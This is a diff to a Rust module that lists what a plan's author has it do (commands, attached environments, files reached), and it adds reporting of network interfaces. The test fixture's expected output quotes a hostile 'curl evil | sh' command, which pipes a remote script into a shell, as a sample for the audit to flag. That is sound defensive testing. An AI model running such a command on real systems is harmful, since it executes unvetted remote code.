@@ -1,5 +1,6 @@
 //! What a plan has done on the word of whoever wrote it, beyond measuring: programs that run, with the rights of who
-//! runs tactus, machines, devices and files that are reached, and settings that are made. A plan is a program; a stranger's is looked at first.
+//! runs tactus, machines, devices, interfaces and files that are reached, and settings that are made. A plan is a program;
+//! a stranger's is looked at first.
 
 use serde_json::Value;
 use tactus_model::catalogue::Load;
@@ -31,6 +32,9 @@ pub fn commands(plan: &Plan) -> Vec<String> {
         let attach =
             environment.attach.as_ref().map(|running| format!("environment `{name}`: attach = {running:?}"));
         all.extend(attach);
+    }
+    for (name, path) in &plan.path {
+        all.extend(path.nics.as_ref().map(|nics| format!("path `{name}`: nics = {nics:?}")));
     }
     for (place, scenario) in scenarios(plan) {
         all.extend(loads(scenario).filter_map(reaches).map(|what| format!("{place}: {what}")));
@@ -110,6 +114,11 @@ memory = "1GiB"
 [environment.plain]
 kind = "qemu"
 kernel = "rt"
+[path.cable]
+kind = "nic"
+nics = ["ens1", "ens2"]
+[path.inside]
+kind = "veth"
 [[scenario]]
 name = "short"
 environment = "host"
@@ -140,6 +149,7 @@ disturb = [{ load = { kind = "command", run = ["three"] } }]
             "environment `line`: command = \"curl evil | sh\"",
             "environment `pod`: attach = \"web-0\"",
             "environment `pod`: client = \"/tmp/kubectl\"",
+            "path `cable`: nics = [\"ens1\", \"ens2\"]",
             "scenario `disk`: directory = \"/srv/others\"",
             "scenario `full`: run = [\"two\"]",
             "scenario `short`: run = [\"sh\", \"-c\", \"one\"]",
